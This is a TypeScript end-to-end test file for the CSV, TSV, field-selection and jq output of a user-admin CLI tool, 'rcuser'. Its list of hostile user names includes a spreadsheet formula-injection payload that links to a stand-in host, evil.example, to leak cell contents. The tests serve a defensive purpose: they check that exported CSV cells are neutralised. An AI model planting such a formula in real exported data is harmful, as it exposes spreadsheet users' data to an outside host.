/**
 * --fields, --csv, --tsv and --jq end to end: the built bin/rcuser.js against the test server.
 * CSV is read back with the tests' own RFC 4180 reader (test/export/rfc4180.ts), never with the
 * code that wrote it; users with hostile names are added to the server for it.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { seedManyUsers } from '../fake-server/seed-many.js';
import { seedUsers } from '../fake-server/seed.js';
import { runCli } from '../helpers/cli.js';
import { parseCsv } from '../export/rfc4180.js';
import { useServer, credentials } from '../helpers/harness.js';

const E2E_TIMEOUT = 60_000;

/** Names people choose: quotes, commas, newlines, formula starters, emoji, right-to-left text. */
const HOSTILE = [
  'Smith, "Doc" John',
  'two\nlines',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+1 555 0100',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  'Zoë 😀👩‍👩‍👧',
  'مرحبا',
  'back\\slash\ttab',
];
const hostile = HOSTILE.map((name, i) => ({ username: `hostile.${i}`, name }));
/** What the formula guard makes of a name in a CSV cell. */
const guarded = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const server = useServer();
let env: Record<string, string>;

beforeAll(async () => {
  hostile.forEach((u, i) => {
    server.addUser({
      _id: `HostileUser${String(i).padStart(6, '0')}`,
      createdAt: '2024-01-15T09:30:00.000Z',
      username: u.username,
      name: u.name,
      nickname: u.name,
      emails: [{ address: `${u.username}@example.com`, verified: i % 2 === 0 }],
      type: 'user',
      status: 'offline',
      active: true,
      roles: ['user'],
      utcOffset: -5,
    });
  });
  env = credentials(server, 'admin');
});

const run = (args: string[], stdin?: string) => runCli(args, { env, stdin });
const SEEDED = [...seedUsers(), ...seedManyUsers()];

describe('--csv', () => {
  it(
    'info: the header of the card columns, then the user; numbers from the server untouched',
    async () => {
      const r = await run(['info', 'hostile.3', '--csv']);
      expect(r.code).toBe(0);
      expect(r.stderr).toBe('');
      const [head, row] = parseCsv(r.stdout);
      expect(head).toEqual([
        '_id',
        'username',
        'name',
        'nickname',
        'status',
        'type',
        'active',
        'roles',
        'emails.address',
        'createdAt',
        'lastLogin',
        'utcOffset',
      ]);
      // The name starts with +: guarded. utcOffset is the number -5: left alone.
      expect(row).toEqual([
        'HostileUser000003',
        'hostile.3',
        "'+1 555 0100",
        "'+1 555 0100",
        'offline',
        'user',
        'true',
        'user',
        'hostile.3@example.com',
        '2024-01-15T09:30:00.000Z',
        '',
        '-5',
      ]);
    },
    E2E_TIMEOUT,
  );

  it(
    'info -: hostile names intact through an RFC 4180 reader, rows in input order, the missing user on stderr only',
    async () => {
      const names = hostile.map((u) => u.username);
      const input = `${[...names.slice(0, 4), 'no.such.user', ...names.slice(4)].join('\n')}\n`;
      const r = await run(['info', '-', '--csv', '--fields', 'username,name,emails.0.verified,utcOffset'], input);
      expect(r.code).toBe(3);
      expect(r.stderr).toBe('rcuser: no.such.user: not found\n');
      const records = parseCsv(r.stdout);
      expect(records[0]).toEqual(['username', 'name', 'emails.0.verified', 'utcOffset']);
      expect(records.slice(1)).toEqual(hostile.map((u, i) => [u.username, guarded(u.name), String(i % 2 === 0), '-5']));
    },
    E2E_TIMEOUT,
  );

  it(
    'list: every user, one row each, in the server order; an empty list is the header alone',
    async () => {
      const r = await run(['list', '--csv', '--fields', 'username,name']);
      expect(r.code).toBe(0);
      const records = parseCsv(r.stdout);
      expect(records[0]).toEqual(['username', 'name']);
      const rows = records.slice(1);
      expect(rows.map((x) => x[0]).sort()).toEqual(
        [...SEEDED.map((u) => u.username as string), ...hostile.map((u) => u.username)].sort(),
      );
      for (const u of hostile) expect(rows).toContainEqual([u.username, guarded(u.name)]);

      const empty = await run(['list', '--csv', '--search', 'zzzznobody']);
      expect(empty.code).toBe(0);
      expect(empty.stdout).toBe('username,name,status,active,roles,emails.address\r\n');
      expect(empty.stderr).toMatch(/^rcuser: no users match these filters/);
    },
    E2E_TIMEOUT,
  );

  it(
    'search: the list table columns by default',
    async () => {
      const r = await run(['search', 'hostile.1', '--csv']);
      expect(r.code).toBe(0);
      expect(parseCsv(r.stdout)).toEqual([
        ['username', 'name', 'status', 'active', 'roles', 'emails.address'],
        ['hostile.1', 'two\nlines', 'offline', 'true', 'user', 'hostile.1@example.com'],
      ]);
    },
    E2E_TIMEOUT,
  );
});

describe('--tsv', () => {
  it(
    'one line per user, tabs only between cells, escapes undone by a script give the names back',
    async () => {
      const r = await run(['search', 'hostile', '--tsv', '--fields', 'username,name']);
      expect(r.code).toBe(0);
      const lines = r.stdout.split('\n');
      expect(lines.pop()).toBe('');
      expect(lines[0]).toBe('username\tname');
      const unescapeTsv = (s: string) =>
        s.replace(/\\(.)/g, (_, c: string) => ({ t: '\t', n: '\n', r: '\r', '\\': '\\' })[c]!);
      const rows = lines.slice(1).map((l) => l.split('\t').map(unescapeTsv));
      expect(rows.every((cells) => cells.length === 2)).toBe(true);
      expect(rows.sort()).toEqual(hostile.map((u) => [u.username, u.name]).sort());
    },
    E2E_TIMEOUT,
  );
});

describe('--fields', () => {
  it(
    'reduces --json to those keys in that order, for one user and for a list',
    async () => {
      const one = await run(['info', 'hostile.0', '--json', '--fields', 'name,emails.0.address,nickname,bio']);
      expect(one.code).toBe(0);
      expect(one.stdout).toBe(
        `${JSON.stringify({ name: HOSTILE[0], 'emails.0.address': 'hostile.0@example.com', nickname: HOSTILE[0] }, null, 2)}\n`,
      );
      const list = await run(['search', 'hostile', '--json', '--fields', 'username,roles']);
      const lines = list.stdout
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(lines).toHaveLength(hostile.length);
      for (const l of lines) expect(Object.keys(l)).toEqual(['username', 'roles']);
    },
    E2E_TIMEOUT,
  );

  it(
    'a mistyped field is a usage error with a did-you-mean, and nothing is sent',
    async () => {
      const before = server.requests.length;
      const r = await run(['list', '--csv', '--fields', 'username,emial']);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toBe(
        'rcuser: unknown field "emial" in --fields (did you mean emails?)\n' +
          '  `rcuser help fields` lists the fields (any name works below customFields.)\n' +
          "Run 'rcuser list --help' for usage.\n",
      );
      expect(server.requests.length).toBe(before);
    },
    E2E_TIMEOUT,
  );

  it(
    'two formats are a usage error, before any request',
    async () => {
      const before = server.requests.length;
      const r = await run(['info', 'alice', '--csv', '--jq', '.']);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/^rcuser: --csv and --jq cannot be used together: choose one output format\n/);
      expect(server.requests.length).toBe(before);
    },
    E2E_TIMEOUT,
  );
});

describe('--jq', () => {
  it(
    'a bad program is exit 2 naming line and column, and nothing is sent',
    async () => {
      const before = server.requests.length;
      const r = await run(['info', '-', '--jq', '.user |\n  map(.name'], 'alice\n');
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toBe(
        "rcuser: --jq \".user |\\n  map(.name\" is not a jq program: syntax error, unexpected end of file, expecting ';' or ')' at line 2, column 7\n" +
          '    map(.name\n' +
          '        ^^^^^\n' +
          '  the jq language: https://jqlang.org/manual/\n' +
          "Run 'rcuser info --help' for usage.\n",
      );
      expect(server.requests.length).toBe(before);
    },
    E2E_TIMEOUT,
  );

  it(
    'one user: strings raw, other values compact JSON, one a line',
    async () => {
      const r = await run(['info', 'hostile.1', '--jq', '.name, .roles, .utcOffset']);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe('two\nlines\n["user"]\n-5\n');
    },
    E2E_TIMEOUT,
  );

  it(
    'over a batch: the NDJSON stream of --json, in input order, and one run over all of it',
    async () => {
      const input = 'hostile.2\nnobody.here\nalice\n';
      const each = await run(['info', '-', '--jq', '.user.username // "missing: \\(.query)"'], input);
      expect(each.code).toBe(3);
      expect(each.stdout).toBe('hostile.2\nmissing: nobody.here\nalice\n');
      const once = await run(['info', '-', '--jq', '[., inputs] | map(select(.user)) | length'], input);
      expect(once.stdout).toBe('2\n');
    },
    E2E_TIMEOUT,
  );

  it(
    'over a list: once over the stream, as jq over the NDJSON of --json',
    async () => {
      const program = 'select(.roles | index("admin")) | .username';
      const r = await run(['list', '--jq', program]);
      expect(r.code).toBe(0);
      const admins = SEEDED.filter((u) => (u.roles as string[] | undefined)?.includes('admin')).map(
        (u) => u.username as string,
      );
      expect(admins.length).toBeGreaterThan(0);
      expect(r.stdout.trimEnd().split('\n').sort()).toEqual(admins.sort());
      const count = await run(['list', '--jq', 'reduce inputs as $u (1; . + 1)']);
      expect(count.stdout).toBe(`${SEEDED.length + hostile.length}\n`);
    },
    E2E_TIMEOUT,
  );

  it(
    'a runtime error says on which document, and exits 1 after the other results',
    async () => {
      const r = await run(['info', 'alice', 'hostile.4', 'bob', '--jq', '.user.name | ltrimstr("-") | tonumber']);
      expect(r.code).toBe(1);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain('jq: error (at document 1): ');
      expect(r.stderr).toMatch(/rcuser: the --jq program failed on 3 of 3 documents/);
    },
    E2E_TIMEOUT,
  );
});
